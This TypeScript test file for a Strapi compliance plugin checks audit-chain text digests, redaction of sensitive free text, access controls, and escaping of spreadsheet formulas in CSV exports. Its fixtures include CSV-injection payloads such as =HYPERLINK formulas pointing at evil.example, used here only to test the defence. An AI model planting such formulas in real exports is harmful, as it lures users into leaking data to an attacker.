import { createHash } from 'node:crypto';
import { auth, createUser, PASSWORD, startApp, type TestApp, type TestUser } from './helpers/strapi';
import { createConsent, createDraft, signReview } from './helpers/fixtures';
import { parseNdjson, type ExportedEvent } from './helpers/chain';
import { parseCsv } from './helpers/csv';
import { runVerifier, scratch } from './helpers/verifier';

/**
 * Free text people type stays redactable (the chain holds a reference and a salted digest), and
 * every CSV export is spreadsheet-safe.
 */
const UID = 'api::testimonial.testimonial';
const FORMULA_NAME = '=HYPERLINK("http://evil.example/steal","Dana Whitfield")';
const FORMULA_REASON = '=HYPERLINK("http://evil.example/phi","Patient called from 555-201-3344")';
const COMMENT = 'Photo caption shows MRN 00417; remove it before publishing';

let app: TestApp;
let privacy: TestUser;
let medical: TestUser;
let editor: TestUser;
let auditor: TestUser;
let consentId: string;
let draftId: string;
const files = scratch();

const exportEvents = async () => {
  const response = await app.http().get('/compliance/audit?format=ndjson').set(auth(auditor));
  expect(response.status).toBe(200);
  return { text: response.text, events: parseNdjson(response.text) };
};
const find = (events: ExportedEvent[], action: string) => events.filter((event) => event.action === action).pop() as ExportedEvent;
const reference = (event: ExportedEvent, key: string) => event.data[key] as { textRef: string; digest: string };
const redact = (ref: string, body: unknown, user = privacy) => app.http().post(`/compliance/audit/texts/${ref}/redact`).set(auth(user)).send(body as object);
const eventCount = async () => app.strapi.db.query('plugin::compliance.audit-event').count({});

beforeAll(async () => {
  app = await startApp();
  privacy = await createUser(app, ['Privacy reviewer'], 'privacy');
  medical = await createUser(app, ['Medical reviewer'], 'medical');
  editor = await createUser(app, ['strapi-editor'], 'editor');
  auditor = await createUser(app, ['Compliance auditor'], 'auditor');
  consentId = (await createConsent(app, privacy, { subjectName: FORMULA_NAME })).documentId;
  const revoked = await app.http().post(`/compliance/consents/${consentId}/revoke`).set(auth(privacy)).send({ reason: FORMULA_REASON });
  expect(revoked.status).toBe(200);
  draftId = (await createDraft(app, editor, UID, { title: 'Walking again', quote: 'The team listened.', channel: 'website' })).documentId;
  const reviewed = await signReview(app, medical, UID, draftId, { role: 'medical', decision: 'changes-requested', comment: COMMENT, password: PASSWORD });
  expect(reviewed.status).toBe(201);
});
afterAll(async () => {
  files.cleanup();
  await app?.close();
});

describe('free texts beside the chain', () => {
  it('keeps only a reference and a salted digest in the event; exports carry the text outside the hashed fields', async () => {
    const raw = await app.strapi.db.connection(app.strapi.db.metadata.get('plugin::compliance.audit-event').tableName).select('*');
    expect(JSON.stringify(raw)).not.toContain('555-201-3344');
    expect(JSON.stringify(raw)).not.toContain('MRN 00417');

    const { text, events } = await exportEvents();
    const revoked = find(events, 'consent.revoked');
    const reason = reference(revoked, 'reason');
    expect(reason).toEqual({ textRef: expect.stringMatching(/^[0-9a-f-]{36}$/), digest: expect.stringMatching(/^[0-9a-f]{64}$/) });
    const exported = revoked.texts?.[reason.textRef] as { text: string; salt: string };
    expect(exported.text).toBe(FORMULA_REASON);
    expect(createHash('sha256').update(`${exported.salt}\n${exported.text}`).digest('hex')).toBe(reason.digest);
    const reviewed = find(events, 'review.recorded');
    expect((reviewed.texts?.[reference(reviewed, 'comment').textRef] as { text: string }).text).toBe(COMMENT);

    // The verifier checks the chain and each text against its digest.
    expect(runVerifier([files.file(text)])).toMatchObject({ status: 0 });
    expect(runVerifier([files.file(text.replace('MRN 00417', 'MRN 00418'))])).toMatchObject({ status: 1, stdout: expect.stringMatching(/^INVALID at seq \d+: the text .* is not the one whose digest the chain holds/) });
  });

  it('keeps the stored texts and signing keys out of the content API and GraphQL, even for a full-access token', async () => {
    const token = await app.strapi.service('admin::api-token').create({ name: 'texts', type: 'full-access', lifespan: null, description: '' });
    const bearer = { Authorization: `Bearer ${token.accessKey}` };
    for (const path of ['/api/audit-texts', '/api/audit-keys']) expect((await app.http().get(path).set(bearer)).status).toBe(404);
    const schema = await app.http().post('/graphql').set(bearer).send({ query: '{ __schema { types { name } queryType { fields { name } } } }' });
    expect(schema.status).toBe(200);
    const names = [...schema.body.data.__schema.types, ...schema.body.data.__schema.queryType.fields].map((item: { name: string }) => item.name);
    expect(names.filter((name) => /ComplianceAudit(Text|Key)/i.test(name))).toEqual([]);
    const direct = await app.http().post('/graphql').set(bearer).send({ query: '{ complianceAuditTexts { text } }' });
    expect(direct.status).toBe(400);
    expect(JSON.stringify(direct.body)).not.toContain('555-201-3344');
  });

  it('shows the text in the consent and review API', async () => {
    expect((await app.http().get(`/compliance/consents/${consentId}`).set(auth(privacy))).body.data.revocationReason).toBe(FORMULA_REASON);
    const reviews = await app.http().get(`/compliance/reviews/${UID}/${draftId}`).set(auth(medical));
    expect(reviews.body.data[0].comment).toBe(COMMENT);
  });
});

describe('redaction', () => {
  it('refuses bad input with a 400 that lists the problem, and writes nothing', async () => {
    const { events } = await exportEvents();
    const ref = reference(find(events, 'consent.revoked'), 'reason').textRef;
    const before = await eventCount();
    const cases: Array<[string, unknown, string]> = [
      [ref, {}, 'reason'],
      [ref, { reason: '   ' }, 'reason'],
      [ref, { reason: 42 }, 'reason'],
      [ref, { reason: 'x'.repeat(1001) }, 'reason'],
      [ref, { reason: 'ok', note: 'extra' }, ''],
      ['not-a-uuid', { reason: 'ok' }, 'ref'],
    ];
    for (const [target, body, path] of cases) {
      const response = await redact(target, body);
      expect(response.status).toBe(400);
      expect(response.body.error.name).toBe('ValidationError');
      if (path) expect(response.body.error.details.errors.map((error: { path: string[] }) => error.path.join('.'))).toContain(path);
    }
    expect((await redact('7d4b6c1e-1111-4222-8333-944455556666', { reason: 'Contains PHI' })).status).toBe(404);
    expect(await eventCount()).toBe(before);
  });

  it('is refused without consents.manage', async () => {
    const { events } = await exportEvents();
    const ref = reference(find(events, 'consent.revoked'), 'reason').textRef;
    expect((await redact(ref, { reason: 'Contains PHI' }, editor)).status).toBe(403);
    expect((await redact(ref, { reason: 'Contains PHI' }, auditor)).status).toBe(403);
    expect((await app.http().post(`/compliance/audit/texts/${ref}/redact`).send({ reason: 'Contains PHI' })).status).toBe(401);
  });

  it('removes a revocation reason everywhere but its digest; audited, and the chain still verifies', async () => {
    const { events } = await exportEvents();
    const reason = reference(find(events, 'consent.revoked'), 'reason');
    const response = await redact(reason.textRef, { reason: 'The reason quotes the patient’s phone number' });
    expect(response.status).toBe(200);
    expect(response.body.data).toEqual({
      ref: reason.textRef,
      digest: reason.digest,
      redactedAt: expect.any(String),
      redactedBy: expect.objectContaining({ id: privacy.id }),
      reason: 'The reason quotes the patient’s phone number',
    });

    const stored = await app.strapi.db.query('plugin::compliance.audit-text').findOne({ where: { ref: reason.textRef } });
    expect(stored).toMatchObject({ text: null, salt: null, digest: reason.digest });
    expect((await app.http().get(`/compliance/consents/${consentId}`).set(auth(privacy))).body.data.revocationReason).toBe('[redacted]');
    const register = await app.http().get('/compliance/consents/export?format=ndjson').set(auth(auditor));
    expect(register.text).not.toContain('555-201-3344');
    expect(JSON.parse(register.text.trim().split('\n')[0]).history[1].reason).toBe('[redacted]');

    const after = await exportEvents();
    expect(after.text).not.toContain('555-201-3344');
    expect(find(after.events, 'consent.revoked').texts).toEqual({ [reason.textRef]: { redactedAt: response.body.data.redactedAt } });
    expect(find(after.events, 'audit.text-redacted')).toMatchObject({
      actor: { type: 'admin', id: privacy.id },
      subject: { uid: 'plugin::compliance.consent-record', documentId: consentId },
      data: { textRef: reason.textRef, digest: reason.digest, reason: 'The reason quotes the patient’s phone number' },
    });
    expect((await app.http().get('/compliance/audit/verify').set(auth(auditor))).body.data).toMatchObject({ valid: true });
    expect(runVerifier([files.file(after.text)])).toMatchObject({ status: 0 });
    const csv = await app.http().get('/compliance/audit?format=csv').set(auth(auditor));
    const row = parseCsv(csv.text).find((cells) => cells[2] === 'consent.revoked') as string[];
    expect(JSON.parse(row[14])).toEqual({ [reason.textRef]: '[redacted]' });

    const again = await redact(reason.textRef, { reason: 'Twice' });
    expect(again.status).toBe(400);
    expect(again.body.error.details.code).toBe('ALREADY_REDACTED');
  });

  it('removes a review comment, which the reviews API then shows as [redacted]', async () => {
    const { events } = await exportEvents();
    const comment = reference(find(events, 'review.recorded'), 'comment');
    expect((await redact(comment.textRef, { reason: 'Quotes a medical record number' })).status).toBe(200);
    const reviews = await app.http().get(`/compliance/reviews/${UID}/${draftId}`).set(auth(medical));
    expect(reviews.body.data[0].comment).toBe('[redacted]');
    expect((await exportEvents()).text).not.toContain('MRN 00417');
  });
});

describe('spreadsheet-safe CSV', () => {
  const FORMULA = /^[=+\-@\t\r]/;

  it('prefixes formula cells with a quote in the consent register and the audit trail; NDJSON stays exact', async () => {
    const register = await app.http().get('/compliance/consents/export?format=csv').set(auth(auditor));
    const rows = parseCsv(register.text);
    const record = rows.find((cells) => cells[0] === consentId) as string[];
    expect(record[2]).toBe(`'${FORMULA_NAME}`);
    const audit = await app.http().get('/compliance/audit?format=csv').set(auth(auditor));
    for (const cells of [...rows, ...parseCsv(audit.text)]) {
      for (const cell of cells) expect(cell).not.toMatch(FORMULA);
    }
    const ndjson = await app.http().get('/compliance/consents/export?format=ndjson').set(auth(auditor));
    expect(ndjson.text).toContain(JSON.stringify(FORMULA_NAME));
  });

  it('keeps a revocation reason typed as a formula harmless in the audit CSV while it is shown', async () => {
    const consent = await createConsent(app, privacy, { subjectName: 'Sam Rivera' });
    await app.http().post(`/compliance/consents/${consent.documentId}/revoke`).set(auth(privacy)).send({ reason: '+SUM(1,2)' });
    const audit = await app.http().get('/compliance/audit?format=csv').set(auth(auditor));
    const row = parseCsv(audit.text).filter((cells) => cells[2] === 'consent.revoked').pop() as string[];
    expect(Object.values(JSON.parse(row[14]))).toEqual(['+SUM(1,2)']);
    for (const cell of row) expect(cell).not.toMatch(FORMULA);
  });
});
